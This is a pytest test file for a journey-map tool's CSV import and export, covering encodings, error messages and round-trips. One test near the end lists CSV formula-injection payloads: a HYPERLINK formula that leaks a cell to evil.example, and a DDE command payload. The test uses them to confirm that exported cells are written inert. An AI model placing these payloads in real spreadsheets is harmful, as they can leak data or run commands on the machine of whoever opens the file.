"""CSV spreadsheets: a workshop wall typed up in any spreadsheet comes in, errors name the row and
column, and a map exported to CSV comes back the same."""


from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from model.entities import Motivator, PainKind
from model.errors import JourneyFileError
from model.interchange import read_text
from model.interchange.spreadsheet import from_csv, read_csv_text, to_csv
from model.journey_file import load
from model.journey_map import JourneyMap
from tests.command_line import wayfinder



ROWS = "there is no Next column, so each row leads to the next row"
NEXT = "touchpoints are connected as the Next column says"


def cards(journey: JourneyMap) -> list[tuple]:
    """Every field a CSV carries, touchpoint by touchpoint in reading order."""
    return [(journey.stage(tp.stage).name, journey.lane(tp.lane).name, tp.title, tp.description, tp.channel,
             tp.owner, tp.emotion, tp.scores.values(),
             [(p.severity, p.kind.value, p.text) for p in tp.pain_points],
             [o.text for o in tp.opportunities], tp.tags)
            for tp in journey.touchpoints()]


WALL = (
    "\ufeffPhase; Lane ;Step;Notes;Feeling;Meaning;Value;Ease;Team;Channel;Pain Points;Severity;"
    "Opportunities;Tags;Mood board;Sticky colour\r\n"
    'Découvrir;Web;Voir la pub;"Vue dans le bus,\r\nle matin";1;4;;5;Marketing;Instagram;;;;social, ads;x;\r\n'
    ';Magasin;Vitrine;;;;;;;;"Trop de monde\n3|dead end|Porte fermée";3;Ouvrir plus tôt;;;\r\n'
    "\r\n"
    '購入;Web;Payer;;-2;;2;;;;"1|delay|Page lente\n\tet elle plante";;"Un clic\nApple Pay";;;\r\n'
)


def test_a_typed_up_wall_comes_in_with_synonyms_quoted_newlines_and_notes(tmp_path):
    path = tmp_path / "wall.csv"
    path.write_bytes(WALL.encode("utf-8"))
    journey, warnings = from_csv(read_text(path), str(path), title="wall")
    assert journey.info.title == "wall"
    assert [s.name for s in journey.stages] == ["Découvrir", "購入"]
    assert [(lane.name, lane.kind.value) for lane in journey.lanes] == [("Web", "channel"), ("Magasin", "channel")]
    assert cards(journey) == [
        ("Découvrir", "Web", "Voir la pub", "Vue dans le bus,\r\nle matin", "Instagram", "Marketing", 1,
         (4, None, 5), [], [], ("social", "ads")),
        ("Découvrir", "Magasin", "Vitrine", "", "", "", None, (None, None, None),
         [(3, "frustration", "Trop de monde"), (3, "dead_end", "Porte fermée")], ["Ouvrir plus tôt"], ()),
        ("購入", "Web", "Payer", "", "", "", -2, (None, 2, None),
         [(1, "delay", "Page lente\net elle plante")], ["Un clic", "Apple Pay"], ()),
    ]
    assert warnings == [
        'row 1: ignored columns that are not touchpoint fields: "Mood board", "Sticky colour"',
        "row 4 is blank; skipped",
        ROWS,
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_comma_semicolon_and_tab_separated_files_are_all_read(delimiter):
    rows = [["Stage", "Lane", "Title", "Description"],
            ["Buy", "Web", "Pay", '"Fast, cheap; easy\tto use"'],
            ["Buy", "Store", "Till", "Queue"]]
    text = "\n".join(delimiter.join(row) for row in rows) + "\n"
    journey, warnings = from_csv(text)
    assert warnings == [ROWS]
    assert [(tp.title, tp.description) for tp in journey.touchpoints()] == [
        ("Pay", "Fast, cheap; easy\tto use"), ("Till", "Queue")]


def test_a_channel_column_names_the_lanes_when_there_is_no_lane_column():
    journey, _ = from_csv("Stage,Channel,Title\nBuy,Phone,Call us\n")
    assert ([lane.name for lane in journey.lanes], journey.touchpoints()[0].channel) == (["Phone"], "")
    journey, _ = from_csv("Stage,Lane,Channel,Title\nBuy,Sales,Phone,Call us\n")
    assert ([lane.name for lane in journey.lanes], journey.touchpoints()[0].channel) == (["Sales"], "Phone")


def test_blank_stage_and_lane_cells_repeat_the_row_above_and_default_before_any():
    journey, _ = from_csv("Title,Stage,Lane\nFirst,,\nSecond,Buy,Web\nThird,,\n")
    assert [(journey.stage(tp.stage).name, journey.lane(tp.lane).name, tp.title)
            for tp in journey.touchpoints()] == [
        ("(no stage)", "Customer", "First"), ("Buy", "Web", "Second"), ("Buy", "Web", "Third")]


def test_lanes_are_ordered_so_that_every_stage_reads_as_the_rows_do():
    journey, _ = from_csv("Stage,Lane,Title\nLook,Store,Window\nBuy,Web,Pay online\nBuy,Store,Pay at till\n")
    assert [lane.name for lane in journey.lanes] == ["Web", "Store"]
    assert [tp.title for tp in journey.touchpoints()] == ["Window", "Pay online", "Pay at till"]


def test_extra_cells_beyond_the_header_are_ignored_with_a_warning():
    journey, warnings = from_csv("Stage,Title\nBuy,Pay,surplus\n")
    assert [tp.title for tp in journey.touchpoints()] == ["Pay"]
    assert warnings == ["row 2 has more cells than the header row; the extra ones are ignored", ROWS]


@pytest.mark.parametrize("text, message", [
    ("Stage,Title,Meaning\nA,One,3\nA,Two,\nA,Three,high\n",
     'bad.csv: row 4, column "Meaning": must be a whole number from 1 to 5, not "high"'),
    ("Stage,Title,Feeling\nA,One,-3\n",
     'bad.csv: row 2, column "Feeling": must be a whole number from -2 to 2, not "-3"'),
    ("Stage,Title,Mood\nA,One,grumpy\n",
     'bad.csv: row 2, column "Mood": must be a whole number from -2 to 2, a rating from 1 to 5 or a feeling '
     'such as "happy" or "frustrated", not "grumpy"'),
    ("Id,Stage,Title\nx,A,One\nx,A,Two\n", "bad.csv: row 3, column \"Id\": the id 'x' is used twice"),
    ("Stage,Title,Next\nA,One,Three\n", 'bad.csv: row 2, column "Next": there is no touchpoint with the id or '
     'title "Three"'),
    ("Stage,Title,Next\nA,One,Two\nA,Two,\nA,Two,\n", 'bad.csv: row 2, column "Next": 2 touchpoints are '
     'titled "Two"; name the next one by its id instead'),
    ("Stage,Title,Completion rate\nA,One,101\n",
     'bad.csv: row 2, column "Completion rate": must be a number from 0 to 100, not "101"'),
    ("Stage,Title,Value\nA,One,2.5\n",
     'bad.csv: row 2, column "Value": must be a whole number from 1 to 5, not "2.5"'),
    ("Stage,Title,Severity,Pains\nA,One,4,Slow\n",
     'bad.csv: row 2, column "Severity": must be a whole number from 1 to 3, not "4"'),
    ("Stage,Title,Pains\nA,One,\"Slow\n5|delay|Very slow\"\n",
     'bad.csv: row 2, column "Pains": must be a whole number from 1 to 3, not "5"'),
    ("Stage,Title,Pains\nA,One,2|boredom|Dull\n",
     'bad.csv: row 2, column "Pains": a pain point\'s kind must be one of dead_end, frustration, delay, '
     'confusion, effort, not "boredom"'),
    ("Stage,Title,Pains\nA,One,Slow | really slow | awful\nA,Two,7|delay|y\n",
     'bad.csv: row 3, column "Pains": must be a whole number from 1 to 3, not "7"'),
    ("Stage,Title,Owner\nA,One,\nB,,Sales\n", 'bad.csv: row 3, column "Title": a touchpoint needs a title'),
    ("Stage,Owner\nA,Sales\n", 'bad.csv: row 1: there is no title column; name one "title", "touchpoint" or "step"'),
    ("Title,Step\nA,B\n", 'bad.csv: row 1: columns "Title" and "Step" both mean title'),
    ("Stage,Title,Tags\nA,One," + "t" * 61 + "\n", 'bad.csv: row 2, column "Tags": is longer than 60 characters'),
    ("Stage,Title\n" + "s" * 201 + ",One\n", 'bad.csv: row 2, column "Stage": is longer than 200 characters'),
    ("", "bad.csv: is empty; a spreadsheet needs a header row with a title column"),
])
def test_errors_name_the_row_and_column_as_the_spreadsheet_numbers_them(text, message):
    with pytest.raises(JourneyFileError) as caught:
        from_csv(text, "bad.csv")
    assert str(caught.value) == message


def test_a_file_that_is_not_utf8_says_where_the_bad_byte_is(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("Stage;Title\nAchat;Payé\n".encode("cp1252"))
    with pytest.raises(JourneyFileError) as caught:
        read_text(path)
    assert str(caught.value) == f"{path}: is not UTF-8 text (bad byte at offset 21)"


def small_map() -> JourneyMap:
    m = JourneyMap()
    m.add_stage("Awareness", id="aware")
    m.add_stage("Purchase", id="buy")
    m.add_lane("Web", id="web")
    m.add_lane("Store", id="store")
    m.add_touchpoint("buy", "store", "Till", emotion=-2, scores={"value": 2}, tags=("queue", "cash"), id="till")
    m.add_touchpoint("aware", "web", "Ad, seen", description="Line one\nLine two", channel="Instagram",
                     owner="Marketing", emotion=1, scores={"meaning": 4, "accommodation": 5}, id="ad")
    m.add_pain_point("ad", "Too loud", severity=1, kind="effort")
    m.add_pain_point("ad", "Hides the price\nuntil the end", severity=3, kind="dead_end")
    m.add_opportunity("ad", "Show the price")
    return m


HEADER = ("Id,Stage,Lane,Title,Description,Channel,Owner,Emotion,Meaning,Value,Accommodation,Pain points,"
          "Opportunities,Tags,Next,Motivators,Expected,Experienced,Target emotion,Target meaning,Target value,"
          "Target accommodation,Time to task (minutes),Completion rate (%),NPS,Colour,Personas here,Evidence,To-be,Stage goal,Lane kind,"
          "Map title,Map description,Client,Author,Accessible title,Persona,Persona purpose,Persona goals,"
          "Persona expectations\r\n")


def test_export_writes_one_row_per_touchpoint_in_reading_order_with_every_field():
    journey = small_map()
    journey.set_info(title="Retail", client="Lindqvist")
    journey.set_persona(name="First-time buyer", goals=("A sofa", "By Friday"))
    journey.update_stage("aware", goal="Know we exist")
    journey.update_touchpoint("ad", motivators=("purpose",), expected=4, experienced=2,
                              target={"emotion": 2}, metrics={"completion_rate": 62.5, "nps": -10},
                              colour="#ff8800")
    journey.add_connection("ad", "till", kind="fallback", label="no stock")
    lines = to_csv(journey).split("\r\n")
    assert lines[0] + "\r\n" == HEADER
    assert lines[1:] == [
        'ad,Awareness,Web,"Ad, seen","Line one\nLine two",Instagram,Marketing,1,4,,5,'
        '"1|effort|Too loud\n3|dead_end|Hides the price\n\'\tuntil the end",Show the price,,till|fallback|no stock,'
        'purpose,4,2,2,,,,,62.5,-10,#ff8800,,,,Know we exist,channel,Retail,,Lindqvist,,,First-time buyer,,'
        '"A sofa\nBy Friday",',
        'till,Purchase,Store,Till,,,,-2,,2,,,,"queue, cash",,,,,,,,,,,,,,,,,channel,,,,,,,,,',
        '',
    ]


def test_export_then_import_gives_the_same_map():
    original = small_map()
    journey, warnings = from_csv(to_csv(original))
    assert warnings == [NEXT]
    assert cards(journey) == cards(original)
    assert journey.connections() == original.connections() == []


# Cells as people type them, including the characters CSV, formulas and the note format give meaning to.
characters = st.sampled_from(list("ab ,;\t\"'|\n\r#=+-@") + ["é", "咖啡", "😀", "\ufeff", "1|delay|", "\n\t", "=1+1"])
raw_texts = st.lists(characters, max_size=6).map("".join)
texts = raw_texts.map(str.strip)
names = texts.filter(bool)
tags = raw_texts.filter(lambda tag: 0 < len(tag) <= 60 and tag.strip())


@st.composite
def journeys(draw) -> JourneyMap:
    m = JourneyMap()
    m.set_info(title=draw(names), description=draw(raw_texts), client=draw(raw_texts))
    m.set_persona(name=draw(raw_texts), purpose=draw(raw_texts), goals=draw(st.lists(names, max_size=2)))
    stages = [m.add_stage(name, goal=draw(raw_texts)).id
              for name in draw(st.lists(names, min_size=1, max_size=3, unique=True))]
    lanes = [m.add_lane(name, kind=draw(st.sampled_from(["channel", "actor", "backstage"]))).id
             for name in draw(st.lists(names, min_size=1, max_size=3, unique=True))]
    scores = st.none() | st.integers(1, 5)
    for _ in range(draw(st.integers(1, 6))):
        tp = m.add_touchpoint(
            draw(st.sampled_from(stages)), draw(st.sampled_from(lanes)), draw(raw_texts.filter(str.strip)),
            description=draw(raw_texts), channel=draw(raw_texts), owner=draw(raw_texts),
            emotion=draw(st.none() | st.integers(-2, 2)),
            scores={"meaning": draw(scores), "value": draw(scores), "accommodation": draw(scores)},
            tags=draw(st.lists(tags, max_size=3)), motivators=draw(st.sets(st.sampled_from(list(Motivator)))),
            expected=draw(scores), target={"emotion": draw(st.none() | st.integers(-2, 2))},
            metrics={"completion_rate": draw(st.none() | st.floats(0, 100)),
                     "time_to_task_minutes": draw(st.none() | st.floats(0, 1_000_000))},
            colour=draw(st.sampled_from([None, "#00aaff"])))
        for text in draw(st.lists(texts, max_size=2)):
            m.add_pain_point(tp.id, text, severity=draw(st.integers(1, 3)),
                             kind=draw(st.sampled_from(list(PainKind))))
        for text in draw(st.lists(names, max_size=2)):
            m.add_opportunity(tp.id, text)
    ids = [tp.id for tp in m.touchpoints()]
    for source, target in draw(st.lists(st.tuples(st.sampled_from(ids), st.sampled_from(ids)), max_size=5)):
        if source != target and not m.has_connection(source, target):
            m.add_connection(source, target, kind=draw(st.sampled_from(["main", "fallback"])), label=draw(raw_texts))
    return m


@settings(max_examples=150, deadline=None)
@given(journeys())
def test_any_map_comes_back_from_csv_with_the_same_touchpoints_in_the_same_order(original):
    text = to_csv(original)
    journey, warnings = from_csv(text)
    assert warnings == [NEXT]
    assert cards(journey) == cards(original)
    assert [tp.model_dump(exclude={"stage", "lane", "pain_points", "opportunities"}) for tp in journey.touchpoints()] \
        == [tp.model_dump(exclude={"stage", "lane", "pain_points", "opportunities"}) for tp in original.touchpoints()]
    assert journey.connections() == original.connections()
    assert (journey.info, journey.persona) == (original.info, original.persona)
    used = {tp.stage for tp in original.touchpoints()}
    assert [s.name for s in journey.stages] == [s.name for s in original.stages if s.id in used]
    assert to_csv(journey) == text



def test_command_line_imports_and_exports_csv_with_a_byte_order_mark(tmp_path):
    source = tmp_path / "workshop wall.csv"
    source.write_bytes(WALL.encode("utf-8"))
    result = wayfinder("import", str(source), "-o", str(tmp_path / "wall.journey"))
    assert result.returncode == 0
    assert result.stderr.startswith(f"{source}: warning: row 1: ignored columns")
    journey = load(tmp_path / "wall.journey")
    assert (journey.info.title, len(journey)) == ("workshop wall", 3)
    result = wayfinder("export", str(tmp_path / "wall.journey"), "-o", str(tmp_path / "out.csv"))
    assert result.returncode == 0
    data = (tmp_path / "out.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfId,Stage,Lane,Title,") and "購入".encode() in data


def test_command_line_names_the_bad_row_and_column(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("Stage;Title;Meaning\nA;One;3\nA;Two;\nA;Three;high\n", encoding="utf-8")
    result = wayfinder("import", str(bad), "-o", str(tmp_path / "out.journey"))
    assert result.returncode == 1
    assert result.stderr == f'{bad}: row 4, column "Meaning": must be a whole number from 1 to 5, not "high"\n'
    assert not (tmp_path / "out.journey").exists()


# ----------------------------------------------------------------- formulas, Excel, feelings and flow
ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(1,1)", "\tindented", "\rreturn", "'=already quoted", "fine\n=second line"]


def test_cells_that_would_run_as_formulas_are_written_inert_and_come_back_as_typed():
    journey = small_map()
    for number, attack in enumerate(ATTACKS):
        journey.add_touchpoint("aware", "web", attack, description=attack, owner=attack, id=f"attack-{number}")
    text = to_csv(journey)
    for cells in __import__("csv").reader(text.splitlines(keepends=True)[1:]):
        for cell in cells:
            for line in cell.split("\n"):
                assert not line or line[0] not in "=+-@\t\r" or line.lstrip("+-").isdigit(), (cell, line)
    assert "'=HYPERLINK(" in text and "'=cmd|' /C calc'!A0" in text and "fine\n'=second line" in text
    again, _ = from_csv(text)
    assert [(tp.title, tp.description, tp.owner) for tp in again.touchpoints()] == [
        (tp.title, tp.description, tp.owner) for tp in journey.touchpoints()]
    assert to_csv(again) == text


def test_a_quoted_formula_typed_into_a_sheet_comes_in_without_its_quote():
    journey, _ = from_csv("Stage,Title,Description\nA,'=HYPERLINK(\"x\"),'-cmd\n")
    tp = journey.touchpoints()[0]
    assert (tp.title, tp.description) == ('=HYPERLINK("x")', "-cmd")


def test_excel_csv_in_windows_1252_with_a_separator_line_imports_with_a_warning(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("sep=;\r\nPhase;Touchpoint;Customer feeling;Tags\r\nAchat;Payé à la caisse;4;\"\"\"a, b\"\", c\"\r\n"
                     "Achat;Reçu;2;\r\n".encode("cp1252"))
    text, warnings = read_csv_text(path)
    assert warnings == ["is not UTF-8 (byte 0xe9 at offset 56); read as Windows-1252 (Western European), "
                        "as Excel writes CSV"]
    journey, warnings = from_csv(text, str(path))
    assert [(tp.title, tp.emotion, tp.tags) for tp in journey.touchpoints()] == [
        ("Payé à la caisse", 1, ("a, b", "c")), ("Reçu", -1, ())]
    assert warnings == ['column "Customer feeling" holds ratings from 1 to 5; read as emotion -2..+2 (3 is neutral)',
                        ROWS]


def test_command_line_imports_an_excel_file_and_says_so(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("Stage;Title\r\nAchat;Payé\r\n".encode("cp1252"))
    result = wayfinder("import", str(path), "-o", str(tmp_path / "out.journey"))
    assert result.returncode == 0
    assert result.stderr.splitlines() == [
        f"{path}: warning: is not UTF-8 (byte 0xe9 at offset 22); read as Windows-1252 (Western European), "
        "as Excel writes CSV", f"{path}: warning: {ROWS}"]
    assert load(tmp_path / "out.journey").touchpoints()[0].title == "Payé"


@pytest.mark.parametrize("header, cells, emotions", [
    ("Sentiment", ["-2", "0", "2"], [-2, 0, 2]),
    ("Mood", ["1", "3", "5"], [-2, 0, 2]),
    ("Feeling", ["delighted", "Frustrated", "OK"], [2, -1, 0]),
    ("Emotion", ["1", "2", ""], [1, 2, None]),
])
def test_feelings_come_in_as_emotion_whatever_their_scale(header, cells, emotions):
    text = f"Stage,Title,{header}\n" + "".join(f"A,T{n},{cell}\n" for n, cell in enumerate(cells))
    journey, _ = from_csv(text)
    assert [tp.emotion for tp in journey.touchpoints()] == emotions


def test_cell_text_is_kept_exactly_and_tags_with_commas_survive():
    journey = small_map()
    journey.update_touchpoint("ad", description="  two leading spaces\n\tand a tab", title=" Ad ",
                              tags=("a, b", ' "quoted" ', "plain"))
    again, _ = from_csv(to_csv(journey))
    ad = again.touchpoint("ad")
    assert (ad.description, ad.title, ad.tags) == ("  two leading spaces\n\tand a tab", " Ad ",
                                                   ("a, b", ' "quoted" ', "plain"))


def test_without_a_next_column_the_rows_order_is_the_flow_so_no_card_is_a_false_dead_end():
    from model.analysis import analyse

    journey, warnings = from_csv("Stage,Lane,Title\nSee,Web,Ad\nSee,Store,Window\nBuy,Web,Pay\nBuy,Store,Till\n")
    title = {tp.id: tp.title for tp in journey.touchpoints()}
    assert sorted((title[c.source], title[c.target]) for c in journey.connections()) == [
        ("Ad", "Window"), ("Pay", "Till"), ("Window", "Pay")]
    assert warnings == [ROWS]
    assert (analyse(journey).dead_ends, analyse(journey).unreachable) == ([], [])


def test_a_next_column_names_the_following_touchpoints_by_title_or_id_with_kind_and_label():
    journey, warnings = from_csv("Id,Stage,Title,Next\n"
                                 'ad,See,Ad,"Pay\nshop|alternative|when curious"\n'
                                 "shop,See,Shop,\n"
                                 "pay,Buy,Pay,\n")
    assert warnings == [NEXT]
    assert [(c.source, c.target, c.kind.value, c.label) for c in journey.connections()] == [
        ("ad", "shop", "alternative", "when curious"), ("ad", "pay", "main", "")]


def test_csv_to_map_to_csv_is_lossless_for_a_sample():
    sample = load(Path(__file__).parents[2] / "resources" / "samples" / "retail-purchase.journey")
    text = to_csv(sample)
    again, _ = from_csv(text)
    assert to_csv(again) == text
    assert again.connections() == sample.connections() and again.persona == sample.persona


def test_who_passes_each_touchpoint_its_evidence_and_to_be_mark_survive_export_and_import():
    original = small_map()
    original.set_persona(name="Maya")
    original.add_persona("Tom, trade buyer", id="tom")
    original.update_touchpoint("ad", personas=("tom",), evidence={"level": "research"}, to_be="changed")
    text = to_csv(original)
    assert ',"Tom, trade buyer",research,changed,' in text
    again, _ = from_csv(text)
    assert [p.name for p in again.personas] == ["Maya", "Tom, trade buyer"]
    ad = next(tp for tp in again.touchpoints() if tp.title == "Ad, seen")
    assert [again.persona_by_id(p).name for p in ad.personas] == ["Tom, trade buyer"]
    assert ad.evidence.level.value == "research" and ad.to_be.value == "changed"
    till = next(tp for tp in again.touchpoints() if tp.title == "Till")
    assert till.personas is None and till.to_be is None and till.evidence.level.value == "assumption"
    assert to_csv(again) == text


def test_an_unknown_evidence_level_names_its_cell():
    with pytest.raises(JourneyFileError) as caught:
        from_csv("Title,Evidence\nAd,hunch\n", "bad.csv")
    assert str(caught.value) == ('bad.csv: row 2, column "Evidence": an evidence level must be one of assumption, '
                                 'anecdote, research, not "hunch"')
